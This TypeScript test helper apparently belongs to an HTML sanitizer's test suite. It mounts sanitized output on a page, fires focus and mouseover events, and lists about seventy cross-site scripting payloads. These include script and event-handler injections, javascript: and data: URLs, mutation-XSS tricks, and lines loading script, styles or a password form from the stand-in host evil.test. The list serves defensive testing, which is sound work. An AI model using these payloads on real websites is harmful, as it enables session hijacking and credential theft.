import { onTestFinished } from 'vitest';
import { nextFrame } from './frames.ts';

declare global {
  interface Window {
    /** What a payload that runs would raise. */
    stolen?: number;
  }
}

/** Puts the clean nodes where they would run if they could, and lets them try. */
export async function putOnPage(nodes: DocumentFragment): Promise<HTMLElement> {
  const place = document.createElement('div');
  place.append(nodes);
  document.body.append(place);
  onTestFinished(() => place.remove());
  for (const element of place.querySelectorAll('*')) {
    element.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
    element.dispatchEvent(new FocusEvent('focus'));
  }
  await nextFrame();
  return place;
}

/** HTML that would run, catch input or cover the page if it came through. */
export const attacks = [
  '<script>stolen = 1</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>stolen = 1</scr</script>ipt>',
  '<script/x>stolen = 1</script >',
  '"><script>stolen = 1</script>',
  '<img src=x onerror="stolen = 1">',
  '<img src=x onerror=stolen&#61;1>',
  '<img src="x` `<script>stolen = 1</script>"` `>',
  '<img/src=x/onerror=stolen=1//',
  '<IMG """><SCRIPT>stolen = 1</SCRIPT>"\\>',
  '<svg onload="stolen = 1">',
  '<svg><script>stolen = 1</script></svg>',
  '<svg><animate onbegin="stolen = 1" attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:stolen=1"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=stolen=1>#x"></use></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=stolen=1>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=stolen=1>">',
  '<math><mi//xlink:href="data:x,<script>stolen=1</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=stolen=1>',
  '<a href="javascript:stolen=1">x</a>',
  '<a href="JaVaScRiPt:stolen=1">x</a>',
  '<a href=" javascript:stolen=1">x</a>',
  '<a href="java\nscript:stolen=1">x</a>',
  '<a href="java&Tab;script:stolen=1">x</a>',
  '<a href="&#106;avascript:stolen=1">x</a>',
  '<a href="javascript&colon;stolen=1">x</a>',
  '<a href="\u0001javascript:stolen=1">x</a>',
  '<a href="javascript://localhost/%0astolen=1">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>stolen=1</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5zdG9sZW49MTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:http://localhost/1">x</a>',
  '<a href="#" onclick="stolen = 1">x</a>',
  '<a href="#" ONMOUSEOVER=stolen=1>x</a>',
  '<a onfocus="stolen = 1" autofocus tabindex=1 href="#">x</a>',
  '<b style="background:url(javascript:stolen=1)">x</b>',
  '<b style="position:fixed;inset:0">x</b>',
  '<b id="portada-page" name="cookie" class="portada-login">x</b>',
  '<b data-state="off" aria-label="Entra" slot="x" part="y" is="z">x</b>',
  '<style>*{display:none}</style>',
  '<style>@import "//evil.test/x.css";</style>',
  '<link rel=stylesheet href="//evil.test/x.css">',
  '<link rel=import href="//evil.test/x.html">',
  '<base href="//evil.test/">',
  '<meta http-equiv="refresh" content="0;url=//evil.test">',
  '<iframe src="javascript:stolen=1"></iframe>',
  '<iframe srcdoc="<script>parent.stolen=1</script>"></iframe>',
  '<object data="javascript:stolen=1"></object>',
  '<embed src="javascript:stolen=1">',
  '<form action="//evil.test"><input name=password><button>Entra</button></form>',
  '<input onfocus="stolen = 1" autofocus>',
  '<button formaction="javascript:stolen=1">x</button>',
  '<textarea></textarea><select><option>x</select>',
  '<details open ontoggle="stolen = 1">x</details>',
  '<video src=x onerror="stolen = 1"><source onerror="stolen = 1"></video>',
  '<audio src onerror="stolen = 1">',
  '<body onload="stolen = 1">',
  '<marquee onstart="stolen = 1">x</marquee>',
  '<template><script>stolen = 1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=stolen=1>"></noscript>',
  '<xmp><p title="</xmp><img src=x onerror=stolen=1>"></xmp>',
  '<portada-login></portada-login>',
  '<slot name=x></slot><dialog open>Entra</dialog>',
  '<!--><img src=x onerror=stolen=1>-->',
  '<![CDATA[<img src=x onerror=stolen=1>]]>',
  '<?xml version="1.0"?><b>x</b>',
  '<isindex type=image src=1 onerror=stolen=1>',
  '<table background="javascript:stolen=1"><td>x</table>',
  '<em><s><u><b onpointerrawupdate=stolen=1><i>x',
];
